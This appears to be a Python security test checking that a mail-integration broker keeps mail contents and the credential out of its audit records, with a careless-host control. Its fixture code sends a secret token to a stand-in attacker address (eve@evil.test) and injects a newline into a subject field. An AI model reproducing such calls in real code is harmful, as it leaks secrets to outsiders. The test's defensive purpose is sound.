"""
Sends what nobody else is to read, with a credential that nobody else is to have.
"""

from __future__ import annotations

from fastness.attack import brokering, mailing
from fastness.attack.arena import Arena
from fastness.attack.model import Attack, Claim, Effect, Expect, Layer, Rule
from fastness.audit import reading

CODE = """
attempt(ctx.integrations.email.send, to='ann@example.test', subject=TOKEN, text=f'it is {TOKEN}')
attempt(ctx.integrations.email.send, to='eve@evil.test', subject=TOKEN, text=TOKEN, html=TOKEN)
attempt(ctx.integrations.email.send, to='ann@example.test', subject=TOKEN + '\\n', text=TOKEN)
by_hand('integrations', 'email.send', ('{"to": "a@example.test", "subject": 1, "text": "%s"}' % TOKEN).encode())
"""
BY_NAME = """
def by_hand(capability, operation, text):
    attempt(ctx.integrations.email.send, **json.loads(text))
"""


def attack(arena: Arena) -> Effect:
    """In the tier; then all files of the audit trail and of the counts are searched."""
    server = mailing.serve(arena)
    with mailing.broker(arena, server, password=arena.token) as broker:
        result = broker.run(CODE, mailing.SCOPE, facts={"TOKEN": arena.token})
        rows = len(list(reading.records(str(broker.audit))))
        kept = any(brokering.anywhere(broker.folder, arena.token, name) for name in ("audit*", "integrations*"))
    return Effect(kept or rows < 5 or not server.taken, f"{rows} rows, {'with' if kept else 'without'} it", result)


def control(arena: Arena) -> Effect:
    """Before a careless host, which notes each line."""
    server = mailing.serve(arena)
    log = str(arena.folder / "careless.log")
    mailing.control(arena, BY_NAME + CODE, server, PASSWORD=arena.token, TOKEN=arena.token, LOG=log)
    kept = brokering.anywhere(arena.folder, arena.token, "careless.log")
    return Effect(kept, f"the log is {'with' if kept else 'without'} it")


ATTACK = Attack(
    id="broker.integrations_words_recorded",
    claim=Claim(Rule.RECORDED, "No record has a word of a mail, or of the credential that it is sent with."),
    tiers=dict.fromkeys(mailing.TIERS, Expect(Layer.HOST)),
    attack=attack,
    control=control,
)
